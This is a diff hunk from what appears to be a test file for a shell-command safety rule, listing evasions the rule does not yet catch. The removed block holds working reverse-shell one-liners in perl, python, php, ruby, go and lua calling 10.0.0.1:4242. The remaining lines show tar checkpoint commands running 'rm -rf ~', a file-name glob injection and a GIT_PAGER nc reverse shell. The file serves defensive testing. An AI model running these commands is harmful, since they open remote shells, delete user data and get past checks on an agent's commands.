@@ -456,24 +456,6 @@ unmet("a command run by an option (ssh's -oProxyCommand, psql's -o '|cmd', tar's
       "tar cf archive.tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' src")
 unmet("file names a glob turns into tar's options: the files the line made are not matched against the glob",
       "touch -- '--checkpoint=1' '--checkpoint-action=exec=rm -rf ~' && tar cf archive.tar *")
-unmet("a reverse shell in a one-liner the rule does not know in that shape (perl's IO::Socket::INET, python's "
-      "__import__ aliases, php's proc_open, ruby's TCPSocket, go run of a file the line wrote, lua's socket)",
-      "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);"
-      "$~->fdopen($c,w);system$_ while<>;'",
-      "python -c 'a=__import__;s=a(\"socket\").socket;o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s();"
-      "c.connect((\"10.0.0.1\",4242));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p(\"/bin/sh\")'",
-      "php -r '$sock=fsockopen(\"10.0.0.1\",4242);$proc=proc_open(\"/bin/sh -i\", array(0=>$sock, 1=>$sock, "
-      "2=>$sock),$pipes);'",
-      "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
-      "ruby -rsocket -e'exit if fork;c=TCPSocket.new(\"10.0.0.1\",\"4242\");loop{c.gets.chomp!;(exit! if $_==\"exit\");"
-      "($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){|io|c.print io.read}))rescue c.puts \"failed: #{$_}\"}'",
-      "echo 'package main;import\"os/exec\";import\"net\";func main(){c,_:=net.Dial(\"tcp\",\"10.0.0.1:4242\");"
-      "cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go "
-      "&& rm /tmp/t.go",
-      "lua5.1 -e 'local host, port = \"10.0.0.1\", 4242 local socket = require(\"socket\") local tcp = socket.tcp() "
-      "local io = require(\"io\") tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() "
-      "local f = io.popen(cmd, \"r\") local s = f:read(\"*a\") f:close() tcp:send(s) if status == \"closed\" then break "
-      "end end tcp:close()'")
 unmet("a git setting that is code, set for the session by export (GIT_PAGER), is not read as code",
       "export GIT_PAGER='nohup nc -e /bin/sh 10.0.0.1 4242 >/dev/null 2>&1 & less'")
 unmet("lxc's host disk device (source=/) is not read as a container that owns the host",
